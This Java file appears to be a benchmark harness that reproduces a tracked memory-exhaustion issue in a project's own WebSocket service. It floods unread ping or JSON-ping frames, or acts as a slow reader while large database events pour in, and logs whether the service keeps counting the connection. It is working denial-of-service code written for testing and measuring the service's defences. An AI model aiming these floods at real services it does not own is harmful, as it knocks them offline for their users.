import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.util.Base64;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Issue 12's memory attacks, as an attacker runs them: a WebSocket client that never reads and floods ping
 * frames or JSON pings, or that subscribes and stops reading while large events pour in. It prints one line per
 * second: the seconds since the attack began and whether the attacking connection is still counted by the
 * service. bench/memory/run.sh starts the service and samples its heap and RSS alongside.
 *
 * <p>Usage: java -cp postgresql.jar MemoryAttack.java (ping-flood|json-ping-flood|slow-reader) BASE_URL ADMIN_KEY
 * JDBC_URL SECONDS
 */
public class MemoryAttack {

    public static void main(String[] args) throws Exception {
        String attack = args[0];
        URI base = URI.create(args[1]);
        String admin = args[2];
        String jdbc = args[3];
        int seconds = Integer.parseInt(args[4]);
        String key = createKey(base, admin);
        Socket ws = webSocket(base, key);
        OutputStream out = ws.getOutputStream();
        long start = System.nanoTime();
        Thread attacker = switch (attack) {
            case "ping-flood" -> Thread.ofPlatform().daemon().start(() -> flood(out, () -> frame(0x9, new byte[125])));
            case "json-ping-flood" -> Thread.ofPlatform().daemon().start(
                    () -> flood(out, () -> frame(0x1, "{\"type\":\"ping\",\"request_id\":\"p\"}".getBytes(StandardCharsets.UTF_8))));
            case "slow-reader" -> {
                out.write(frame(0x1, "{\"type\":\"subscribe\",\"request_id\":\"s\",\"tables\":[\"a\"]}".getBytes(StandardCharsets.UTF_8)));
                out.flush();
                Thread.sleep(500);
                yield Thread.ofPlatform().daemon().start(() -> write(jdbc, 2_000, 100 * 1024));
            }
            default -> throw new IllegalArgumentException(attack);
        };
        for (int s = 1; s <= seconds; s++) {
            Thread.sleep(Math.max(0, start + s * 1_000_000_000L - System.nanoTime()) / 1_000_000);
            System.out.println(s + " " + (attacker.isAlive() ? "attacking" : "done") + " sent_kb=" + SENT.get() / 1024
                                       + " websocket_connections=" + connections(base, admin));
        }
        ws.close();
    }

    interface Frame {
        byte[] next();
    }

    private static final java.util.concurrent.atomic.AtomicLong SENT = new java.util.concurrent.atomic.AtomicLong();

    private static void flood(OutputStream out, Frame frame) {
        byte[] batch = batch(frame);
        try {
            while (true) {
                out.write(batch);
                SENT.addAndGet(batch.length);
            }
        } catch (IOException e) {
            System.out.println("the service closed the connection: " + e);
        }
    }

    private static byte[] batch(Frame frame) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (int i = 0; i < 100; i++) {
            b.writeBytes(frame.next());
        }
        return b.toByteArray();
    }

    private static void write(String jdbc, int count, int bytes) {
        String payload = "{\"pad\":\"" + "x".repeat(bytes) + "\"}";
        try (Connection c = DriverManager.getConnection(jdbc, "postgres", "");
             PreparedStatement st = c.prepareStatement(
                     "INSERT INTO cdc.outbox (table_name, operation, payload) VALUES ('a', 'INSERT', ?::jsonb)")) {
            for (int i = 0; i < count; i++) {
                st.setString(1, payload);
                st.executeUpdate();
            }
        } catch (Exception e) {
            throw new RuntimeException(e);
        }
    }

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    private static String createKey(URI base, String admin) throws Exception {
        String body = HTTP.send(HttpRequest.newBuilder(base.resolve("/v1/keys"))
                                        .header("Authorization", "Bearer " + admin)
                                        .header("Content-Type", "application/json")
                                        .POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"attacker\",\"tables\":[\"a\"]}"))
                                        .build(), HttpResponse.BodyHandlers.ofString()).body();
        Matcher m = Pattern.compile("\"key\"\\s*:\\s*\"([^\"]+)\"").matcher(body);
        if (!m.find()) {
            throw new IllegalStateException(body);
        }
        return m.group(1);
    }

    private static String connections(URI base, String admin) {
        try {
            String body = HTTP.send(HttpRequest.newBuilder(base.resolve("/v1/state"))
                                            .header("Authorization", "Bearer " + admin).build(),
                                    HttpResponse.BodyHandlers.ofString()).body();
            Matcher m = Pattern.compile("\"websocket\"\\s*:\\s*(\\d+)").matcher(body);
            return m.find() ? m.group(1) : "?";
        } catch (Exception e) {
            return "unreachable";
        }
    }

    /** A WebSocket authenticated by header, over a socket with a 4 KB receive buffer that is never read. */
    private static Socket webSocket(URI base, String key) throws IOException {
        Socket s = new Socket();
        s.setReceiveBufferSize(4096);
        s.connect(new InetSocketAddress(base.getHost(), base.getPort()));
        s.getOutputStream().write(("GET /v1/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                + "Sec-WebSocket-Key: " + Base64.getEncoder().encodeToString(new byte[16]) + "\r\n"
                + "Sec-WebSocket-Version: 13\r\nAuthorization: Bearer " + key + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
        InputStream in = s.getInputStream();
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
            int b = in.read();
            if (b < 0) {
                throw new IOException("closed during the handshake");
            }
            head.write(b);
        }
        return s;
    }

    private static byte[] frame(int opcode, byte[] payload) {
        ByteArrayOutputStream f = new ByteArrayOutputStream();
        f.write(0x80 | opcode);
        f.write(0x80 | payload.length);
        byte[] mask = new byte[4];
        ThreadLocalRandom.current().nextBytes(mask);
        f.writeBytes(mask);
        for (int i = 0; i < payload.length; i++) {
            f.write(payload[i] ^ mask[i & 3]);
        }
        return f.toByteArray();
    }
}
